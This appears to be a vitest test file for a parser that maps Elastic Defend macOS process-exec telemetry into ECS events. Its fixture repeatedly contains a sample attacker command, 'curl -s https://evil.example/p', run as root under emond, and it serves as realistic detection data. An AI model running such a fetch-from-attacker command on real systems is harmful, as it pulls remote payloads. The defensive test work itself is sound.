import { describe, expect, it } from 'vitest';
import { EventParseError } from '../../src/events/errors.js';
import type { ExecEvent } from '../../src/events/exec-event.js';
import { parseLine } from '../../src/events/parse-line.js';

/** An Elastic Defend macOS exec document, nested the way Elasticsearch stores it. */
function defendExec(): Record<string, unknown> {
  return {
    '@timestamp': '2024-03-01T10:00:00.123Z',
    agent: { type: 'endpoint', version: '8.12.0' },
    ecs: { version: '8.10.0' },
    event: { category: ['process'], type: ['start'], action: 'exec', kind: 'event', dataset: 'endpoint.events.process', sequence: 4711 },
    host: { name: 'mac-01', os: { type: 'macos', version: '14.3', family: 'macos' } },
    process: {
      pid: 4242,
      entity_id: 'Zjk3ZjQ1',
      name: 'curl',
      executable: '/usr/bin/curl',
      args: ['curl', '-s', 'https://evil.example/p'],
      args_count: 3,
      command_line: 'curl -s https://evil.example/p',
      working_directory: '/',
      start: '2024-03-01T10:00:00.100Z',
      code_signature: { exists: true, signing_id: 'com.apple.curl', trusted: true, team_id: '' },
      parent: { pid: 4200, name: 'emond', executable: '/sbin/emond', entity_id: 'ZW1vbmQ=' },
    },
    user: { id: '0', name: 'root' },
    group: { id: '0' },
  };
}

function eventOf(document: unknown): ExecEvent {
  const parsed = parseLine(JSON.stringify(document));
  if (parsed.kind !== 'event') throw new Error(`irrelevant: ${parsed.reason}`);
  expect(parsed.format).toBe('ecs');
  return parsed.event;
}

function reasonOf(document: unknown): string {
  const parsed = parseLine(JSON.stringify(document));
  if (parsed.kind !== 'irrelevant') throw new Error('expected irrelevant');
  return parsed.reason;
}

function dotted(value: Record<string, unknown>, prefix = '', out: Record<string, unknown> = {}): Record<string, unknown> {
  for (const [key, child] of Object.entries(value)) {
    const path = prefix === '' ? key : `${prefix}.${key}`;
    if (typeof child === 'object' && child !== null && !Array.isArray(child)) dotted(child as Record<string, unknown>, path, out);
    else out[path] = child;
  }
  return out;
}

describe('ECS parser', () => {
  it('maps an Elastic Defend exec document field by field', () => {
    const event = eventOf(defendExec());
    expect(event['@timestamp']).toBe('2024-03-01T10:00:00.123Z');
    expect(event.event).toEqual({ kind: 'event', category: ['process'], type: ['start'], action: 'exec', sequence: 4711, module: 'ecs' });
    expect(event.host).toEqual({ name: 'mac-01', os: { type: 'macos', version: '14.3' } });
    expect(event.process).toEqual({
      pid: 4242,
      entity_id: 'Zjk3ZjQ1',
      name: 'curl',
      executable: '/usr/bin/curl',
      args: ['curl', '-s', 'https://evil.example/p'],
      args_count: 3,
      command_line: 'curl -s https://evil.example/p',
      working_directory: '/',
      start: '2024-03-01T10:00:00.100Z',
      code_signature: { exists: true, signing_id: 'com.apple.curl', team_id: '', trusted: true },
      parent: { pid: 4200, name: 'emond', executable: '/sbin/emond', entity_id: 'ZW1vbmQ=' },
    });
    expect(event.user).toEqual({ id: '0', name: 'root' });
    expect(event.group).toEqual({ id: '0' });
    expect(event.es).toEqual({ message_version: 0, parent_resolution: 'source' });
  });

  it('reads dotted keys and mixes of dotted and nested the same way', () => {
    const nested = eventOf(defendExec());
    expect(eventOf(dotted(defendExec()))).toEqual(nested);
    const mixed = defendExec();
    const process = mixed['process'] as Record<string, unknown>;
    const parent = process['parent'] as Record<string, unknown>;
    delete process['parent'];
    process['parent.name'] = parent['name'];
    process['parent.pid'] = parent['pid'];
    process['parent.executable'] = parent['executable'];
    process['parent.entity_id'] = parent['entity_id'];
    expect(eventOf(mixed)).toEqual(nested);
  });

  it('unwraps an Elasticsearch hit (_source)', () => {
    expect(eventOf({ _index: '.ds-logs-endpoint.events.process-default', _id: 'x', _source: defendExec() })).toEqual(eventOf(defendExec()));
  });

  it('accepts scalar event.type and event.category, and keeps event.type as given', () => {
    const doc = dotted(defendExec());
    doc['event.type'] = 'process_started';
    doc['event.category'] = 'process';
    delete doc['event.action'];
    const event = eventOf(doc);
    expect(event.event.type).toEqual(['process_started']);
    expect(event.event.action).toBe('exec');
  });

  it('maps fork and end actions, and implies event.type from the action', () => {
    const fork = dotted(defendExec());
    fork['event.action'] = 'fork';
    expect(eventOf(fork).event.action).toBe('fork');
    const end = dotted(defendExec());
    end['event.action'] = 'end';
    delete end['event.type'];
    end['process.exit_code'] = 1;
    const ended = eventOf(end);
    expect(ended.event).toMatchObject({ action: 'exit', type: ['end'] });
    expect(ended.process.exit_code).toBe(1);
  });

  it('derives what the document leaves out', () => {
    const doc = dotted(defendExec());
    for (const key of ['process.name', 'process.args_count', 'process.command_line', 'process.entity_id', 'process.parent.name', 'process.parent.executable']) {
      delete doc[key];
    }
    const event = eventOf(doc);
    expect(event.process.name).toBe('curl');
    expect(event.process.args_count).toBe(3);
    expect(event.process.command_line).toBe('curl -s https://evil.example/p');
    expect(event.process.entity_id).toBe('4242:0:2024-03-01T10:00:00.100Z');
    // Without a parent name the tree resolves it.
    expect(event.process.parent.name).toBeUndefined();
    expect(event.es.parent_resolution).toBeUndefined();
  });

  it('takes a numeric user id as the ECS keyword it is', () => {
    const doc = dotted(defendExec());
    doc['user.id'] = 501;
    expect(eventOf(doc).user.id).toBe('501');
  });

  it('calls non-process and non-macOS documents irrelevant', () => {
    const network = dotted(defendExec());
    network['event.category'] = ['network'];
    expect(reasonOf(network)).toBe('ecs event.category network');
    const linux = dotted(defendExec());
    linux['host.os.type'] = 'linux';
    expect(reasonOf(linux)).toBe('ecs host.os.type linux');
    const info = dotted(defendExec());
    info['event.type'] = ['info'];
    info['event.action'] = 'already_running';
    expect(reasonOf(info)).toBe('ecs event.type info');
  });

  it.each([
    ['@timestamp', 'missing_field'],
    ['process.pid', 'missing_field'],
  ])('rejects a document without %s', (key, reason) => {
    const doc = dotted(defendExec());
    delete doc[key];
    const error = (() => {
      try {
        parseLine(JSON.stringify(doc));
      } catch (e) {
        return e as EventParseError;
      }
      throw new Error('accepted');
    })();
    expect(error).toBeInstanceOf(EventParseError);
    expect(error.reason).toBe(reason);
    expect(error.field).toBe(key);
  });

  it.each([
    ['process.pid', '12'],
    ['process.args', [1]],
    ['event.type', [1]],
    ['process.code_signature.exists', 'yes'],
    ['@timestamp', 'not a date'],
    ['@timestamp', '2025-13-07T10:00:00Z'],
    ['@timestamp', 1754572895880],
  ])('rejects %s = %j as a bad field', (key, value) => {
    const doc = dotted(defendExec());
    doc[key] = value;
    expect(() => parseLine(JSON.stringify(doc))).toThrow(EventParseError);
  });

  it('requires a name or an executable', () => {
    const doc = dotted(defendExec());
    delete doc['process.name'];
    delete doc['process.executable'];
    expect(() => parseLine(JSON.stringify(doc))).toThrow(/process\.executable/);
  });
});
